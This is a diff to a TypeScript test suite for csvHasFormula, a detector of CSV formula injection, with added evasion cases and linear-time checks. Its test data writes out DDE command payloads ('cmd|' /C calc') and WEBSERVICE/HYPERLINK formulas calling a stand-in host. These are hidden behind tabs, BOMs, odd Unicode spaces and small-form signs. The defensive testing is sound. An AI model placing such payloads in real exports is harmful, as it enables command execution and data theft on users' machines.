@@ -103,6 +103,16 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ['a remote call of a heading', 'url;pedido\nhttp://golpe.example/?c=;1089\n-WEBSERVICE(url)\n'],
     ['a link to a heading, in lower case', 'site;pedido\nhttp://golpe.example;1090\n- hyperlink(site)\n'],
     ['a function of a word, then an operator', 'pedido;total\n1091;-SUM(P)*2\n'],
+    // What starts a cell (files 55): a separator that opens the file, blanks other than the space, small signs.
+    ['a tab opening the file, then an equals sign', '\t=HYPERLINK("http://golpe.example")\n'],
+    ['a comma opening the file, then a DDE link', ",-2+cmd|' /C calc'!A0\n"],
+    ['a semicolon opening the file after a BOM', '\ufeff;+WEBSERVICE("http://golpe.example")\n'],
+    ['a form feed before the sign', 'pedido;link\n1092;\f=HYPERLINK("http://golpe.example")\n'],
+    ['an en space before the sign', 'pedido;link\n1093;\u2002=HYPERLINK("http://golpe.example")\n'],
+    ['a narrow no-break space before a minus', 'pedido;link\n1094;\u202f-HYPERLINK("http://golpe.example")\n'],
+    ['a line separator before the sign', 'pedido;link\n1095;\u2028=HYPERLINK("http://golpe.example")\n'],
+    ['a small equals sign', 'pedido;link\n1096;\ufe66HYPERLINK("http://golpe.example")\n'],
+    ['a small minus before a DDE link', "pedido;valor\n1097;\ufe63cmd|' /C calc'!A0\n"],
   ])('%s', (_name, text) => {
     expect(csvHasFormula(text)).toBe(true);
   });
@@ -158,6 +168,8 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ['calls with a plural ending the cell', 'atendimento;obs\nAna;- 2 CALL(S)\n'],
     // Full-width text read as ASCII is still text.
     ['a full-width negative value and a Japanese list', 'valor;itens\n\uff0d15,00;\uff0d 商品\uff08\uff33\uff09\n'],
+    ['a separator opening the file, then values', ';-15,00;+55 11 98765-4321\n\t-19,90\n'],
+    ['blanks before negative values', 'valor;saldo\n\u2002-15,00;\f-19,90\n\ufe63 5,00;\u202f+10\n'],
     ['empty', ''],
   ])('%s: no formula', (_name, text) => {
     expect(csvHasFormula(text)).toBe(false);
@@ -237,6 +249,7 @@ describe('csvHasFormula: linear in the shapes of its newer readings', () => {
     ['calls of words', (n: number) => `${';-call(s)'.repeat(n)}\n`],
     ['calls of words never closed', (n: number) => `-A1&${'image(s '.repeat(n)}\n`],
     ['full-width words and brackets', (n: number) => `-${'\uff21\uff22\uff08\uff33\uff09\u3000'.repeat(n)}\n`],
+    ['separators and blanks in turn', (n: number) => `${';\u2002\f"'.repeat(n)}-a\n`],
     ['a call of one long word never closed', (n: number) => `-A1&image(${'a'.repeat(n)}\n`],
     ['a name in capitals, then one long word never closed', (n: number) => `-CAMISETA(${'a'.repeat(n)}\n`],
     ['names and spaces before no bracket', (n: number) => `-A1&WEBSERVICE${' '.repeat(n)}x\n`],
